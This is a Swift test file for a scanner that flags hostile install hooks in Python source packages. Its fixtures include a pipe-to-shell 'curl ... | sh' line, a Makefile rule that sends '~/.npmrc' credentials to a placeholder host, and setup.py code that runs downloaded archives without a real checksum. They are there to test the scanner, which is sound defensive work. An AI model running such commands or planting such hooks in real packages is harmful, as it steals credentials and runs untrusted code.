import SallyportAnalysis
import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("What an honest setup.py does, and its hostile twin")
struct HonestSetupTests {
    private static let digest = String(repeating: "0123456789abcdef", count: 4)

    /// Fetches a library, unpacks it and builds it.
    private static func library(_ sums: String, _ compare: String) -> String {
        """
        import hashlib, os, subprocess, tarfile
        from pathlib import Path
        from urllib.request import urlopen, urlretrieve
        SUMS = \(sums)
        def is_there(path: Path, size=None, digest=None):
            if not path.exists():
                return False
            with path.open(mode='rb') as f:
                found = hashlib.file_digest(f, 'sha256')
            if \(compare):
                return False
            return True
        def download(folder, url, name):
            target = Path(folder) / name
            urlretrieve(url, target)
            if not is_there(target, digest=SUMS.get(name)):
                raise RuntimeError(name)
            return target
        def unpack(archive, folder):
            with tarfile.open(archive) as tar:
                tar.extractall(folder)
            return os.path.join(folder, 'lib')
        def call(command, **more):
            if subprocess.call(command, **more):
                raise Exception(command)
        def build(folder):
            place = unpack(download(folder, BASE + NAME, NAME), folder)
            call([os.path.join(place, 'bootstrap'), '--prefix=' + folder], cwd=place)
        build('build')
        """
    }

    @Test("is seen where the digest of what it runs is fetched beside it, or compared with nothing")
    func noDigest() {
        let fetched = "dict(line.split() for line in urlopen(BASE + 'sums').read().decode().splitlines())"
        #expect(!Self.chains(Self.library(fetched, "digest != found.hexdigest()")).isEmpty)
        #expect(!Self.chains(Self.library("{'lib-1.tar.gz': '\(Self.digest)'}", "not found.hexdigest()")).isEmpty)
    }

    @Test("sources a file whose name it puts in later, and no other file of the package")
    func placeholder() {
        let setup = """
            import subprocess
            from setuptools import setup
            subprocess.check_call(['sh', '-c', '. {0} && true'.format(quote(activate))])
            setup()
            """
        let readme = "Install it:\n\n  curl https://x.example.invalid/i.sh | sh\n"
        #expect(Self.chains(setup, ["README": readme]).isEmpty)
        let twin = setup.replacing(
            "'. {0} && true'.format(quote(activate))",
            with: "'. {0}/README && true'.format(here)"
        )
        #expect(!Self.chains(twin, ["README": readme]).isEmpty)
        let braces = setup.replacing("'. {0} && true'.format(quote(activate))", with: "'. ./{README,NEWS}'")
        #expect(!Self.chains(braces, ["README": readme]).isEmpty)
    }

    @Test("makes what it unpacked, and not by the makefile that its authors use")
    func jobs() {
        let setup = "import subprocess\ndef build(folder, jobs):\n    subprocess.call(['make'] + jobs, cwd=folder)\n"
        let theft = "all:\n\tcurl -d @$(HOME)/.npmrc https://x.example.invalid/\n"
        #expect(Self.chains(setup, ["Makefile": theft]).isEmpty)
        #expect(!Self.chains(setup.replacing("['make'] + jobs", with: "['make', '-j2']"), ["Makefile": theft]).isEmpty)
    }

    @Test("imports every constant of a module by its name")
    func imports() {
        let names = (0..<4000).map { "    NAME_\($0) as NAME_\($0)," }.joined(separator: "\n")
        let report = Self.report(["setup.py": "from socket import (\n\(names)\n)\n"])
        #expect(report.facts(.fileUnreadable).isEmpty)
    }

    @Test("fetches in another way than before, from where it did")
    func edited() {
        let before =
            "from urllib.request import urlretrieve\nURL = 'https://data.example.invalid/1.zip'\n"
            + "HOME = 'https://home.example.invalid'\nurlretrieve(URL, 'data.zip')\n"
        let after =
            "from urllib.request import Request, urlopen\nURL = 'https://data.example.invalid/2.zip'\n"
            + "HOME = 'https://home.example.invalid'\n"
            + "r = Request(URL, headers={'User-Agent': 'sample (https://home.example.invalid/)'})\n"
            + "open('data.zip', 'wb').write(urlopen(r).read())\n"
        #expect(!Self.hookChanged(before, after))
        #expect(Self.hookChanged(before, after.replacing("data.example", with: "other.example")))
        #expect(Self.hookChanged(before, after.replacing("data.example.invalid", with: "192.0.2.9")))
        #expect(Self.hookChanged("x = 1\n", after))
    }

    private static func hookChanged(_ before: String, _ after: String) -> Bool {
        Comparison.delta(from: report(["setup.py": before]), to: report(["setup.py": after]))
            .contains { $0.code == .deltaHookChanged }
    }

    private static func chains(_ setup: String, _ files: [String: String] = [:]) -> [Fact] {
        report(files.merging(["setup.py": setup]) { $1 }).denied
    }

    private static func report(_ files: [String: String]) -> Report {
        Sample.report(Sample.sdist(files), "sample-1.0.tar.gz")
    }
}
